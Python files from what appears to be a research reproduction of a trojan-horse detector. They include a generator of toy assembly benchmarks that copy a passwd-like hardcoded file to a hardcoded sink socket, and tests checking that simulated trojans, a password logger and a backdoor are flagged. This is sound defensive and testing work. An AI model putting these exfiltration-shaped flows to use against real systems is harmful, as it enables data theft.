                          host: str, port: int) -> None:
        if origin == "user":
            host_index = self.take_argv(host)
            port_index = self.take_argv(str(port))
            self.emit(
                f"""
    load eax, [ebp+2]
    load ebx, [eax+{host_index}]
    call gethostbyname
{self.store_var(ip_var)}
    load eax, [ebp+2]
    load ebx, [eax+{port_index}]
    call atoi
{self.store_var(port_var)}"""
            )
        elif origin == "hardcoded":
            label = f"hard_{ip_var}"
            self.emit_data(f'{label}: .asciz "{host}"')
            self.emit(
                f"""
    mov ebx, {label}
    call gethostbyname
{self.store_var(ip_var)}
    mov eax, {port}
{self.store_var(port_var)}"""
            )
        else:  # pragma: no cover
            raise ValueError(f"bad socket origin {origin!r}")

    # -- source data acquisition ---------------------------------------------
    def acquire_source(self) -> None:
        row = self.row
        if row.source == "binary":
            self.emit_data('payload: .asciz "hardcoded-secret-payload"')
            self.emit(
                f"""
    mov ebx, buf
    mov ecx, payload
    call strcpy
    mov ebx, buf
    call strlen
{self.store_var("datalen")}"""
            )
        elif row.source == "file":
            self.setup_file_name(
                row.source_name_origin, "src_name",
                USER_SOURCE_FILE, HARD_SOURCE_FILE,
            )
            self.emit(
                f"""
    mov edi, src_name
    load ebx, [edi]
    mov ecx, 0
    call open
    mov esi, eax
    mov ebx, esi
    mov ecx, buf
    mov edx, 96
    call read
{self.store_var("datalen")}
    mov ebx, esi
    call close"""
            )
        elif row.source == "socket":
            self.setup_socket_addr(
                row.source_name_origin, "src_ip", "src_port",
                DATA_HOST, DATA_PORT,
            )
            self.emit(
                f"""
    call socket
    mov esi, eax
    mov ebx, esi
    mov edi, src_ip
    load ecx, [edi]
    mov edi, src_port
    load edx, [edi]
    call connect_addr
    mov ebx, esi
    mov ecx, buf
    mov edx, 96
    call read
{self.store_var("datalen")}
    mov ebx, esi
    call close"""
            )
        elif row.source == "serversocket":
            # we are the server: the data arrives on an accepted
            # connection (the attacker pushes a payload on connect)
            self.setup_socket_addr(
                row.source_name_origin, "src_ip", "src_port",
                "LocalHost", SERVER_PORT,
            )
            self.emit(
                f"""
    call socket
    mov esi, eax
    mov ebx, esi
    mov edi, src_ip
    load ecx, [edi]
    mov edi, src_port
    load edx, [edi]
    call bind_addr
    mov ebx, esi
    call listen
    mov ebx, esi
    call accept
    mov esi, eax
    mov ebx, esi
    mov ecx, buf
    mov edx, 96
    call read
{self.store_var("datalen")}
    mov ebx, esi
    call close"""
            )
        elif row.source == "hardware":
            self.emit(
                f"""
    cpuid
    mov edi, buf
    store [edi], eax
    store [edi+1], ebx
    store [edi+2], ecx
    store [edi+3], edx
    mov eax, 4
{self.store_var("datalen")}"""
            )
        else:  # pragma: no cover
            raise ValueError(f"bad source {row.source!r}")

    # -- target emission -----------------------------------------------------
    def emit_target(self) -> None:
        row = self.row
        if row.target == "file":
            self.setup_file_name(
                row.target_name_origin, "dst_name",
                USER_TARGET_FILE, HARD_TARGET_FILE,
            )
            self.emit(
                """
    mov edi, dst_name
    load ebx, [edi]
    mov ecx, 0x241
    call open
    mov esi, eax
    mov ebx, esi
    mov ecx, buf
    mov edi, datalen
    load edx, [edi]
    call write
    mov ebx, esi
    call close"""
            )
        elif row.target == "socket":
            self.setup_socket_addr(
                row.target_name_origin, "dst_ip", "dst_port",
                SINK_HOST, SINK_PORT,
            )
            self.emit(
                """
    call socket
    mov esi, eax
    mov ebx, esi
    mov edi, dst_ip
    load ecx, [edi]
    mov edi, dst_port
    load edx, [edi]
    call connect_addr
    mov ebx, esi
    mov ecx, buf
    mov edi, datalen
    load edx, [edi]
    call write
    mov ebx, esi
    call close"""
            )
        elif row.target == "server":
            self.setup_socket_addr(
                row.target_name_origin, "dst_ip", "dst_port",
                "LocalHost", SERVER_PORT,
            )
            self.emit(
                """
    call socket
    mov esi, eax
    mov ebx, esi
    mov edi, dst_ip
    load ecx, [edi]
    mov edi, dst_port
    load edx, [edi]
    call bind_addr
    mov ebx, esi
    call listen
    mov ebx, esi
    call accept
    mov esi, eax
    mov ebx, esi
    mov ecx, buf
    mov edi, datalen
    load edx, [edi]
    call write
    mov ebx, esi
    call close"""
            )
        else:  # pragma: no cover
            raise ValueError(f"bad target {row.target!r}")

    def build(self) -> Tuple[str, List[str]]:
        self.acquire_source()
        self.emit_target()
        self.emit("    mov eax, 0")
        self.emit("    ret")
        source = "\n".join(self.text) + "\n.data\n" + "\n".join(self.data)
        return source, self.argv


def _setup(hth: HTH) -> None:
    """Seed files and remote peers every row may touch."""
    hth.fs.write_text(USER_SOURCE_FILE, "user notes: meeting at noon\n")
    hth.fs.write_text(HARD_SOURCE_FILE, "root:x:0:0:root:/root:/bin/sh\n")
    hth.network.add_peer(SINK_HOST, SINK_PORT, lambda: SinkPeer("sink"))
    hth.network.add_peer(
        DATA_HOST,
        DATA_PORT,
        lambda: ConversationPeer("dataserver",
                                 opening=b"remote-data-payload\n"),
    )
    hth.network.add_peer(
        NAME_HOST,
        NAME_PORT,
        lambda: ConversationPeer(
            "nameserver", opening=REMOTE_TARGET_FILE.encode() + b"\n"
        ),
    )
    # For the server-mode rows: a client dials our listener shortly after
    # startup (pushing a payload, for the rows where the server reads).
    hth.network.schedule_connect(
        2000,
        "LocalHost",
        SERVER_PORT,
        ConversationPeer(
            "remote-client",
            opening=b"pushed-by-remote-client",
            close_when_done=False,
        ),
    )


def table6_rows() -> List[Table6Row]:
    rows: List[Table6Row] = []
    # -- Binary -> File ---------------------------------------------------
    rows.append(Table6Row(
        "Binary -> File", "User filename", "binary", "file",
        target_name_origin="user", expected_verdict=Verdict.BENIGN,
    ))
    rows.append(Table6Row(
        "Binary -> File", "hardcode filename", "binary", "file",
        target_name_origin="hardcoded", expected_verdict=Verdict.HIGH,
        expected_rules=("check_binary_to_file",),
    ))
    rows.append(Table6Row(
        "Binary -> File", "remote filename", "binary", "file",
        target_name_origin="remote", expected_verdict=Verdict.HIGH,
        expected_rules=("check_binary_to_file",),
    ))
    # -- Binary -> Socket ----------------------------------------------------
    rows.append(Table6Row(
        "Binary -> Socket", "User address", "binary", "socket",
        target_name_origin="user", expected_verdict=Verdict.BENIGN,
    ))
    rows.append(Table6Row(
        "Binary -> Socket", "Hardcoded address", "binary", "socket",
        target_name_origin="hardcoded", expected_verdict=Verdict.LOW,
        expected_rules=("check_binary_to_socket",),
    ))
    # -- File -> File -----------------------------------------------------------
    grid = [
        ("User input, User Input", "user", "user", Verdict.BENIGN, ()),
        ("User input, Hardcoded", "user", "hardcoded", Verdict.LOW,
         ("check_resource_flow",)),
        ("Hardcoded, User input", "hardcoded", "user", Verdict.LOW,
         ("check_resource_flow",)),
        ("Hardcoded, Hardcoded", "hardcoded", "hardcoded", Verdict.HIGH,
         ("check_resource_flow",)),
    ]
    for label, s_origin, t_origin, verdict, rules in grid:
        rows.append(Table6Row(
            "File -> File", label, "file", "file",
            source_name_origin=s_origin, target_name_origin=t_origin,
            expected_verdict=verdict, expected_rules=rules,
        ))
    # -- File -> Socket (client) ----------------------------------------------
    for label, s_origin, t_origin, verdict, rules in grid:
        rows.append(Table6Row(
            "File -> socket", label, "file", "socket",
            source_name_origin=s_origin, target_name_origin=t_origin,
            expected_verdict=verdict, expected_rules=rules,
        ))
    # -- Socket -> File ---------------------------------------------------------
    for label, s_origin, t_origin, verdict, rules in grid:
        rows.append(Table6Row(
            "Socket -> File", label, "socket", "file",
            source_name_origin=s_origin, target_name_origin=t_origin,
            expected_verdict=verdict, expected_rules=rules,
        ))
    # -- Hardware -> File ----------------------------------------------------------
    rows.append(Table6Row(
        "Hardware -> File", "User filename", "hardware", "file",
        target_name_origin="user", expected_verdict=Verdict.BENIGN,
    ))
    rows.append(Table6Row(
        "Hardware -> File", "Hardcode filename", "hardware", "file",
        target_name_origin="hardcoded", expected_verdict=Verdict.HIGH,
        expected_rules=("check_hardware_flow",),
    ))
    # -- server-mode variants ("all socket benchmarks were tested twice") ------
    for label, s_origin, verdict, rules in [
        ("User input file (server)", "user", Verdict.LOW,
         ("check_resource_flow",)),
        ("Hardcoded file (server)", "hardcoded", Verdict.HIGH,
         ("check_resource_flow",)),
    ]:
        rows.append(Table6Row(
            "File -> socket", label, "file", "server",
            source_name_origin=s_origin, target_name_origin="hardcoded",
            expected_verdict=verdict, expected_rules=rules,
        ))
    # Binary data served over our own hardcoded listener (the pma-prompt
    # shape): High via the server-context grading.
    rows.append(Table6Row(
        "Binary -> Socket", "Hardcoded address (server)", "binary",
        "server", target_name_origin="hardcoded",
        expected_verdict=Verdict.HIGH,
        expected_rules=("check_binary_to_socket",),
    ))
    # Socket -> File with the data arriving on our accepted connection.
    for label, t_origin, verdict, rules in [
        ("Server conn, User file", "user", Verdict.LOW,
         ("check_resource_flow",)),
        ("Server conn, Hardcoded file", "hardcoded", Verdict.HIGH,
         ("check_resource_flow",)),
    ]:
        rows.append(Table6Row(
            "Socket -> File", label, "serversocket", "file",
            source_name_origin="hardcoded", target_name_origin=t_origin,
            expected_verdict=verdict, expected_rules=rules,
        ))
    return rows


def row_workload(row: Table6Row) -> Workload:
    builder = _ProgramBuilder(row)
    source, argv = builder.build()
    path = (
        "/bin/flow_"
        + f"{row.source}_{row.target}_"
        + f"{row.source_name_origin or 'x'}_{row.target_name_origin or 'x'}"
    )
    return Workload(
        name=f"{row.section}: {row.label}",
        program_path=path,
        source=source,
        description=f"{row.section} with {row.label}",
        setup=_setup,
        argv=[path] + argv,
        expected_verdict=row.expected_verdict,
        expected_rules=row.expected_rules,
    )


def table6_workloads() -> List[Workload]:
    return [row_workload(row) for row in table6_rows()]
