"""Fleet telemetry merging: sample lists, stage profiles, snapshots."""

import json

from repro.telemetry import (
    MetricsRegistry,
    SpanTracer,
    StageProfiler,
    TelemetrySnapshot,
    merge_sample_lists,
    render_samples,
)


def _registry(counter=0, gauge=0.0, observations=()):
    registry = MetricsRegistry()
    if counter:
        registry.counter("work_total", kind="a").inc(counter)
    if gauge:
        registry.gauge("live_pages").set(gauge)
    for value in observations:
        registry.histogram("latency_seconds").observe(value)
    return registry


class TestMergeSampleLists:
    def test_counters_and_gauges_sum(self):
        merged = merge_sample_lists([
            _registry(counter=3, gauge=2.0).samples(),
            _registry(counter=4, gauge=5.0).samples(),
        ])
        by_name = {(s["name"], s["kind"]): s for s in merged}
        assert by_name[("work_total", "counter")]["value"] == 7
        assert by_name[("live_pages", "gauge")]["value"] == 7.0

    def test_histograms_merge_streams(self):
        merged = merge_sample_lists([
            _registry(observations=[0.1, 0.3]).samples(),
            _registry(observations=[0.2]).samples(),
        ])
        (sample,) = merged
        assert sample["count"] == 3
        assert abs(sample["sum"] - 0.6) < 1e-9
        assert sample["min"] == 0.1
        assert sample["max"] == 0.3
        assert abs(sample["mean"] - 0.2) < 1e-9

    def test_label_sets_stay_distinct(self):
        a = MetricsRegistry()
        a.counter("calls", name="open").inc()
        b = MetricsRegistry()
        b.counter("calls", name="close").inc(2)
        merged = merge_sample_lists([a.samples(), b.samples()])
        assert len(merged) == 2

    def test_order_matches_registry_samples(self):
        registry = MetricsRegistry()
        registry.counter("z_total").inc()
        registry.gauge("a_gauge").set(1)
        registry.histogram("m_hist").observe(0.5)
        merged = merge_sample_lists([registry.samples()])
        assert [
            (s["kind"], s["name"]) for s in merged
        ] == [
            (s["kind"], s["name"]) for s in registry.samples()
        ]

    def test_merged_list_renders(self):
        merged = merge_sample_lists([_registry(counter=2).samples()])
        assert "work_total" in render_samples(merged)

    def test_empty_inputs_merge_to_nothing(self):
        assert merge_sample_lists([]) == []
        assert merge_sample_lists([[], []]) == []

    def test_empty_list_merges_with_populated_one(self):
        merged = merge_sample_lists([[], _registry(counter=2).samples()])
        (sample,) = merged
        assert sample["value"] == 2

    def test_disjoint_label_sets_both_survive(self):
        a = MetricsRegistry()
        a.counter("calls_total", name="open", tenant="x").inc()
        b = MetricsRegistry()
        b.counter("calls_total", name="open").inc(5)
        merged = merge_sample_lists([a.samples(), b.samples()])
        values = {
            tuple(sorted(s["labels"].items())): s["value"] for s in merged
        }
        assert values[(("name", "open"), ("tenant", "x"))] == 1
        assert values[(("name", "open"),)] == 5

    def test_matching_histogram_buckets_sum_elementwise(self):
        a = MetricsRegistry()
        a.histogram("lat").observe(0.05)      # <= 0.1 bound
        b = MetricsRegistry()
        b.histogram("lat").observe(0.5)       # <= 1.0 bound
        b.histogram("lat").observe(50.0)      # overflow bucket
        a_counts = a.samples()[0]["bucket_counts"]
        b_counts = b.samples()[0]["bucket_counts"]
        (merged,) = merge_sample_lists([a.samples(), b.samples()])
        assert merged["bucket_counts"] == [
            x + y for x, y in zip(a_counts, b_counts)
        ]
        assert sum(merged["bucket_counts"]) == 3
        assert merged["count"] == 3

    def test_mismatched_histogram_buckets_drop_cleanly(self):
        a = MetricsRegistry()
        a.histogram("lat").observe(0.05)
        b = MetricsRegistry()
        b.histogram("lat").observe(0.4)
        b_samples = b.samples()
        # Simulate a worker on a different bucket ladder.
        b_samples[0]["buckets"] = [0.5]
        b_samples[0]["bucket_counts"] = [1, 0]
        (merged,) = merge_sample_lists([a.samples(), b_samples])
        # Incompatible bucket ladders: summary stats still merge, the
        # bucket view is dropped rather than summed nonsensically.
        assert "buckets" not in merged
        assert "bucket_counts" not in merged
        assert merged["count"] == 2
        assert merged["min"] == 0.05
        assert merged["max"] == 0.4


class TestSpanJsonlExport:
    def test_jsonl_round_trips_span_dicts(self, tmp_path):
        tracer = SpanTracer()
        outer = tracer.start("run", "run", tick=0, program="guest")
        inner = tracer.start("SYS_open", "syscall", tick=3, parent=outer)
        tracer.end(inner, tick=7, errno=0)
        tracer.end(outer, tick=9)
        path = tmp_path / "trace.jsonl"
        tracer.write(str(path))
        lines = path.read_text().strip().splitlines()
        decoded = [json.loads(line) for line in lines]
        assert decoded == [s.to_dict() for s in tracer.finished()]
        by_name = {d["name"]: d for d in decoded}
        assert by_name["SYS_open"]["parent_id"] == by_name["run"]["span_id"]
        assert by_name["SYS_open"]["duration_ticks"] == 4
        assert by_name["SYS_open"]["attrs"]["errno"] == 0

    def test_unfinished_spans_stay_out_of_the_export(self, tmp_path):
        tracer = SpanTracer()
        tracer.start("dangling", "run", tick=0)
        done = tracer.start("done", "run", tick=0)
        tracer.end(done, tick=1)
        path = tmp_path / "trace.jsonl"
        tracer.write(str(path))
        decoded = [
            json.loads(line)
            for line in path.read_text().strip().splitlines()
        ]
        assert [d["name"] for d in decoded] == ["done"]


class TestProfilerFromDicts:
    def test_profiles_add(self):
        a = StageProfiler()
        a.add("dataflow", 0.2)
        a.add_run(1.0)
        b = StageProfiler()
        b.add("dataflow", 0.3)
        b.add("bbfreq", 0.1)
        b.add_run(2.0)
        merged = StageProfiler.from_dicts([a.to_dict(), b.to_dict()])
        assert merged.runs == 2
        assert abs(merged.total_seconds - 3.0) < 1e-9
        breakdown = merged.breakdown()
        assert abs(breakdown["dataflow"] - 0.5) < 1e-9
        assert abs(breakdown["bbfreq"] - 0.1) < 1e-9

    def test_native_remainder_not_double_counted(self):
        a = StageProfiler()
        a.add("dataflow", 0.25)
        a.add_run(1.0)
        merged = StageProfiler.from_dicts([a.to_dict(), a.to_dict()])
        # native = run wall - attributed stages, recomputed after merge
        assert abs(merged.breakdown()["native"] - 1.5) < 1e-9

    def test_no_profiles_gives_none(self):
        assert StageProfiler.from_dicts([None, None]) is None
        assert StageProfiler.from_dicts([]) is None


class TestSnapshotMerged:
    def _snapshot(self, counter, spans=0):
        registry = _registry(counter=counter)
        return TelemetrySnapshot(
            enabled=True,
            metrics=registry.samples(),
            profile=None,
            span_count=spans,
        )

    def test_roundtrip_from_dict(self):
        snapshot = self._snapshot(5, spans=2)
        assert TelemetrySnapshot.from_dict(snapshot.to_dict()) == snapshot

    def test_merged_sums_everything(self):
        merged = TelemetrySnapshot.merged(
            [self._snapshot(1, spans=2), None, self._snapshot(2, spans=3)]
        )
        assert merged.enabled
        assert merged.span_count == 5
        assert merged.metric_total("work_total") == 3

    def test_merged_empty_is_disabled(self):
        merged = TelemetrySnapshot.merged([])
        assert not merged.enabled
        assert merged.metrics == []
        assert merged.profile is None
