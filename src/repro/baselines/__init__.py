"""Comparator baselines from the paper's related-work discussion:
syscall-sequence anomaly detection (stide) and single-bit taint
tracking (Perl taint mode)."""

from repro.baselines.single_taint import (
    SingleBitResult,
    accuracy,
    classify_events,
    evaluate_single_bit,
    hth_accuracy,
    is_tainted,
)
from repro.baselines.stide import (
    StideDetector,
    StideEvaluation,
    SyscallTraceRecorder,
    evaluate_stide,
    record_trace,
)

__all__ = [
    "StideDetector",
    "StideEvaluation",
    "SyscallTraceRecorder",
    "record_trace",
    "evaluate_stide",
    "SingleBitResult",
    "evaluate_single_bit",
    "classify_events",
    "is_tainted",
    "accuracy",
    "hth_accuracy",
]
