"""Tests pinning the *specific* observations the paper narrates for
individual workloads (beyond the table-level verdicts)."""

from repro.core.report import Verdict
from repro.harrier.config import HarrierConfig
from repro.harrier.events import ResourceAccessEvent
from repro.programs.exploits.registry import table8_workloads
from repro.programs.macro.registry import macro_workloads
from repro.programs.trusted.registry import table7_workloads
from repro.secpert.warnings import Severity
from repro.taint import DataSource


def by_name(workloads, name):
    return next(w for w in workloads if w.name == name)


class TestElmExploit:
    def test_system_execve_filtered_because_libc_trusted(self):
        """Paper 8.3.1: HTH misses the system() send because /bin/sh's
        string lives in trusted libc."""
        report = by_name(table8_workloads(), "ElmExploit").run()
        # the execve event exists in the monitor log...
        execs = [
            e for e in report.events
            if isinstance(e, ResourceAccessEvent)
            and e.call_name == "SYS_execve"
        ]
        assert any(e.resource.name == "/bin/sh" for e in execs)
        sh_event = next(e for e in execs if e.resource.name == "/bin/sh")
        assert "/lib/libc.so" in sh_event.origin.names_for(DataSource.BINARY)
        # ...but no execve warning was issued
        assert report.warnings_by_rule("check_execve") == []
        # while the crafted-email write was caught
        highs = [w for w in report.warnings if w.severity is Severity.HIGH]
        assert any("tmpmail" in w.headline for w in highs)


class TestGrabem:
    def test_complete_tracker_sees_user_source(self):
        """Paper 8.3.4 notes the prototype missed that the logged data was
        USER input; the complete tracker reports it."""
        report = by_name(table8_workloads(), "grabem").run()
        user_warnings = report.warnings_by_rule("check_user_input_flow")
        assert user_warnings
        assert all(w.severity is Severity.HIGH for w in user_warnings)
        assert ".exrc%" in user_warnings[0].headline

    def test_password_lands_in_logfile(self):
        workload = by_name(table8_workloads(), "grabem")
        hth = workload.build_machine()
        hth.run(workload.image(), argv=workload.argv,
                stdin=workload.stdin)
        content = hth.fs.read_text(".exrc%")
        assert "alice hunter2" in content


class TestPma:
    def test_warning_text_includes_server_context(self):
        report = by_name(table8_workloads(), "pma").run()
        texts = [w.render() for w in report.warnings]
        assert any(
            "it is a server with the address: LocalHost:11116" in t
            for t in texts
        )
        assert any("inpipe" in t for t in texts)
        assert any("outpipe" in t for t in texts)
        # all pma warnings are High, as in the paper's output
        assert all(w.severity is Severity.HIGH for w in report.warnings)


class TestSuperforker:
    def test_warning_progression_low_then_medium(self):
        report = by_name(table8_workloads(), "superforker").run()
        count_warnings = report.warnings_by_rule("check_clone_count")
        rate_warnings = report.warnings_by_rule("check_clone_rate")
        assert count_warnings and rate_warnings
        assert count_warnings[0].severity is Severity.LOW
        assert rate_warnings[0].severity is Severity.MEDIUM

    def test_random_filenames_carry_binary_taint(self):
        report = by_name(table8_workloads(), "superforker").run()
        file_warnings = report.warnings_by_rule("check_binary_to_file")
        assert file_warnings
        assert any(".." in w.headline for w in file_warnings)


class TestPicoCompatMode:
    def test_incomplete_prototype_reproduces_paper_false_positive(self):
        """Paper 8.2.6: the prototype wrongly reported pico HIGH because
        console input was mis-attributed to the binary.  Our compat mode
        reproduces that exact artifact."""
        workload = by_name(table7_workloads(), "pico")
        report = workload.run(
            harrier_config=HarrierConfig(complete_dataflow=False)
        )
        assert report.verdict is Verdict.HIGH
        texts = [w.render() for w in report.warnings]
        assert any("/usr/bin/pico" in t for t in texts)

    def test_complete_tracker_avoids_it(self):
        workload = by_name(table7_workloads(), "pico")
        assert workload.run().verdict is Verdict.BENIGN


class TestMake:
    def test_g_plus_plus_origin_mixes_user_and_binary(self):
        """Paper 8.2.3: make's g++ path is 'hardcoded as well as
        originated from the user' (PATH env)."""
        report = by_name(table7_workloads(), "make").run()
        execs = [
            e for e in report.events
            if isinstance(e, ResourceAccessEvent)
            and e.call_name == "SYS_execve"
            and "g++" in e.resource.name
        ]
        assert execs
        origin = execs[0].origin
        assert origin.has_source(DataSource.USER_INPUT)
        assert "/usr/bin/make" in origin.names_for(DataSource.BINARY)


class TestTicTacToeTrojan:
    def test_dropped_file_executes_with_enoexec(self):
        workload = by_name(macro_workloads(), "uttt-trojan")
        hth = workload.build_machine()
        report = hth.run(workload.image(), argv=workload.argv,
                         stdin=workload.stdin)
        # the payload file exists, is executable, and the exec failed
        node = hth.fs.lookup("./malicious_code.txt")
        assert node is not None and node.is_executable()
        assert report.verdict is Verdict.HIGH
        exec_warnings = report.warnings_by_rule("check_execve")
        assert any(
            "malicious_code.txt" in w.headline for w in exec_warnings
        )


class TestPwsafeDeviation:
    def test_complete_tracker_grades_high_not_low(self):
        """Documented deviation: the paper's incomplete prototype graded
        the pwsafe trojan Low with wrong sources; the complete tracker
        sees FILE(hardcoded) -> SOCKET(hardcoded) and grades High."""
        report = by_name(macro_workloads(), "pwunsafe").run()
        assert report.verdict is Verdict.HIGH
        flows = report.warnings_by_rule("check_resource_flow")
        assert any(".pwsafe.dat" in w.render() for w in flows)
        assert any("duero:40400" in w.render() for w in flows)


class TestTcpWrappersRarity:
    def test_backdoor_path_flagged_as_rarely_executed(self):
        """The §7.4 mechanism in action: only the magic-token backdoor
        path — executed once, late in the run — gets the 'rarely
        executed' reinforcement; the hot normal-service path does not."""
        from repro.programs.scenarios import scenario_workloads

        workload = next(
            w for w in scenario_workloads()
            if w.name == "TCP Wrappers Trojan"
        )
        report = workload.run()
        rare = [w for w in report.warnings
                if any("rarely executed" in d for d in w.details)]
        common = [w for w in report.warnings
                  if not any("rarely executed" in d for d in w.details)]
        assert len(rare) == 1
        assert "intruder" in rare[0].render()
        assert len(common) >= 5  # the normal-service responses
