"""Paging edge cases for the sparse shadow memory.

The paged store's contract is "indistinguishable from a flat
addr -> TagSet dict, except faster": these tests pin the places where
page bookkeeping could leak — ranges straddling page boundaries, pages
shared copy-on-write across fork, and the no-empty-page-resident
invariant that makes page absence mean "clean".
"""

from hypothesis import given
from hypothesis import strategies as st

from repro.taint import (
    EMPTY,
    PAGE_SIZE,
    DataSource,
    ShadowMemory,
    TagSet,
)

FILE_A = TagSet.of(DataSource.FILE, "/a")
SOCK = TagSet.of(DataSource.SOCKET, "h:1")

#: An address near the end of page 1, so small ranges straddle into page 2.
EDGE = 2 * PAGE_SIZE - 2


class TestPageBoundaries:
    def test_set_range_straddles_pages(self):
        mem = ShadowMemory()
        mem.set_range(EDGE, 4, FILE_A)
        assert [a for a, _ in mem.live_cells()] == [
            EDGE, EDGE + 1, EDGE + 2, EDGE + 3
        ]
        assert mem.page_stats()["pages"] == 2

    def test_union_of_range_straddles_pages(self):
        mem = ShadowMemory()
        mem.set(EDGE, FILE_A)        # last-but-one cell of page 1
        mem.set(EDGE + 3, SOCK)      # second cell of page 2
        combined = mem.union_of_range(EDGE, 4)
        assert combined.has_source(DataSource.FILE)
        assert combined.has_source(DataSource.SOCKET)
        # Range clipped to one side sees only that side.
        assert mem.union_of_range(EDGE, 2) == FILE_A
        assert mem.union_of_range(2 * PAGE_SIZE, 4) == SOCK

    def test_get_range_straddles_pages(self):
        mem = ShadowMemory()
        mem.set(EDGE + 1, FILE_A)
        mem.set(EDGE + 2, SOCK)
        assert mem.get_range(EDGE, 4) == (EMPTY, FILE_A, SOCK, EMPTY)

    def test_clear_range_straddling_drops_only_covered_cells(self):
        mem = ShadowMemory()
        mem.set_range(EDGE - 2, 8, FILE_A)
        mem.set_range(EDGE, 4, EMPTY)
        assert [a for a, _ in mem.live_cells()] == [
            EDGE - 2, EDGE - 1, EDGE + 4, EDGE + 5
        ]

    def test_clear_covering_whole_page_drops_it_wholesale(self):
        mem = ShadowMemory()
        mem.set_range(0, 3 * PAGE_SIZE, FILE_A)
        assert mem.page_stats()["pages"] == 3
        # Covers all of page 1 plus fragments of pages 0 and 2.
        mem.set_range(PAGE_SIZE - 1, PAGE_SIZE + 2, EMPTY)
        assert mem.page_stats()["pages"] == 2
        assert mem.get(PAGE_SIZE - 2) == FILE_A
        assert mem.get(PAGE_SIZE - 1) is EMPTY
        assert mem.get(2 * PAGE_SIZE) is EMPTY
        assert mem.get(2 * PAGE_SIZE + 1) == FILE_A

    def test_copy_within_overlapping_across_pages(self):
        mem = ShadowMemory()
        tags = [TagSet.of(DataSource.FILE, f"/f{i}") for i in range(4)]
        for i, ts in enumerate(tags):
            mem.set(EDGE + i, ts)
        # Overlapping forward move crossing the page boundary: memmove
        # semantics require reading the source before writing.
        mem.copy_within(EDGE, EDGE + 2, 4)
        assert mem.get_range(EDGE + 2, 4) == tuple(tags)
        # The non-overwritten prefix is untouched.
        assert mem.get(EDGE) == tags[0]
        assert mem.get(EDGE + 1) == tags[1]


class TestSparsity:
    def test_empty_store_has_no_pages(self):
        mem = ShadowMemory()
        assert mem.page_stats() == {
            "pages": 0, "cells": 0, "page_size": PAGE_SIZE,
        }

    def test_empty_write_restores_page_absence(self):
        mem = ShadowMemory()
        mem.set(100, FILE_A)
        assert mem.page_live(100)
        mem.set(100, EMPTY)
        assert not mem.page_live(100)
        assert mem.page_stats()["pages"] == 0

    def test_range_clear_restores_page_absence(self):
        mem = ShadowMemory()
        mem.set_range(EDGE, 4, FILE_A)
        mem.set_range(EDGE, 4, EMPTY)
        assert mem.page_stats()["pages"] == 0
        assert len(mem) == 0

    def test_empty_write_to_absent_page_stays_absent(self):
        mem = ShadowMemory()
        mem.set(100, EMPTY)
        mem.set_range(0, 10 * PAGE_SIZE, EMPTY)
        assert mem.page_stats()["pages"] == 0

    def test_page_live_is_page_granular(self):
        mem = ShadowMemory()
        mem.set(0, FILE_A)
        # Conservative: any address in a resident page reads as "maybe".
        assert mem.page_live(PAGE_SIZE - 1)
        assert not mem.page_live(PAGE_SIZE)

    def test_probe_distinguishes_untagged(self):
        mem = ShadowMemory()
        mem.set(5, FILE_A)
        assert mem.probe(5) == FILE_A
        assert mem.probe(6) is None          # resident page, clean cell
        assert mem.probe(PAGE_SIZE) is None  # absent page

    def test_union_of_range_early_exit_on_absent_pages(self):
        mem = ShadowMemory()
        mem.set(0, FILE_A)
        # Far-away range: no resident page intersects it.
        assert mem.union_of_range(100 * PAGE_SIZE, 10_000) is EMPTY


class TestCopyOnWrite:
    def test_fork_shares_then_diverges_child_side(self):
        parent = ShadowMemory()
        parent.set(10, FILE_A)
        child = parent.copy()
        child.set(10, SOCK)
        assert parent.get(10) == FILE_A
        assert child.get(10) == SOCK

    def test_fork_shares_then_diverges_parent_side(self):
        parent = ShadowMemory()
        parent.set(10, FILE_A)
        child = parent.copy()
        parent.set(11, SOCK)
        assert child.get(11) is EMPTY
        assert parent.get(11) == SOCK
        assert child.get(10) == FILE_A

    def test_fork_clear_does_not_leak(self):
        parent = ShadowMemory()
        parent.set_range(0, 4, FILE_A)
        child = parent.copy()
        child.set_range(0, 4, EMPTY)
        assert len(child) == 0
        assert len(parent) == 4

    def test_grandchild_chain(self):
        a = ShadowMemory()
        a.set(0, FILE_A)
        b = a.copy()
        c = b.copy()
        c.set(0, SOCK)
        b.set(1, SOCK)
        assert a.get(0) == FILE_A and a.get(1) is EMPTY
        assert b.get(0) == FILE_A and b.get(1) == SOCK
        assert c.get(0) == SOCK and c.get(1) is EMPTY

    def test_fork_then_new_page_is_owned(self):
        parent = ShadowMemory()
        child = parent.copy()
        child.set(0, FILE_A)
        child.set(1, SOCK)  # second write must not re-clone
        assert parent.get(0) is EMPTY
        assert child.get(1) == SOCK


def _reference_ops():
    """(op, args) programs driving paged store vs flat-dict model."""
    addr = st.integers(0, 4 * PAGE_SIZE)
    length = st.integers(0, 2 * PAGE_SIZE + 3)
    tags = st.sampled_from([EMPTY, FILE_A, SOCK])
    return st.lists(
        st.one_of(
            st.tuples(st.just("set"), addr, tags),
            st.tuples(st.just("set_range"), addr, length, tags),
            st.tuples(st.just("copy"), st.just(None)),
            st.tuples(st.just("copy_within"), addr, addr, length),
        ),
        max_size=12,
    )


@given(_reference_ops(), st.integers(0, 4 * PAGE_SIZE), st.integers(0, 150))
def test_matches_flat_dict_model(ops, q_start, q_length):
    mem = ShadowMemory()
    model = {}
    for op in ops:
        if op[0] == "set":
            _, addr, ts = op
            mem.set(addr, ts)
            if ts.is_empty():
                model.pop(addr, None)
            else:
                model[addr] = ts
        elif op[0] == "set_range":
            _, addr, length, ts = op
            mem.set_range(addr, length, ts)
            for a in range(addr, addr + length):
                if ts.is_empty():
                    model.pop(a, None)
                else:
                    model[a] = ts
        elif op[0] == "copy":
            mem = mem.copy()  # keep exercising post-fork mutation
            model = dict(model)
        else:
            _, src, dst, length = op
            mem.copy_within(src, dst, length)
            window = [model.get(src + i, EMPTY) for i in range(length)]
            for i, ts in enumerate(window):
                if ts.is_empty():
                    model.pop(dst + i, None)
                else:
                    model[dst + i] = ts
    assert dict(mem.cell_tags) == model
    expected = EMPTY
    for a in range(q_start, q_start + q_length):
        expected = expected.union(model.get(a, EMPTY))
    assert mem.union_of_range(q_start, q_length) == expected
    assert mem.get_range(q_start, q_length) == tuple(
        model.get(a, EMPTY) for a in range(q_start, q_start + q_length)
    )
