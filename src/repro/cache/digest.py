"""Canonical byte serialization and content digests for the verdict cache.

A cache key must mean the same thing in every process that computes it:
a fleet worker populating a shared on-disk store, the serve daemon
answering hits without queueing, and a test re-deriving the key under a
different ``PYTHONHASHSEED`` all have to agree bit for bit.  Python's
